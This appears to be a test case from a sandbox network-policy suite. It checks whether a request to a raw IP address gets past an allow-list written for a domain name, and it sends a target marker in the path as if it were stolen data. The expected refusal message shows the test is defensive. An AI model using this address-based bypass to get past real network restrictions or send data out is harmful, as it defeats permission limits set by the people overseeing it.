# /// attack
# guarantee = "network"
# summary = "Reaches another site at the address of a listed name, by the address itself."
# reference = "RFC 9110, 7.1"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80"] } }
# refusal = { default = "proxy 93.184.216.1:80 is not in network.allow" }
# ///

from kit import get, judge, target

judge(get("93.184.216.1", "/" + target("MARKER")))
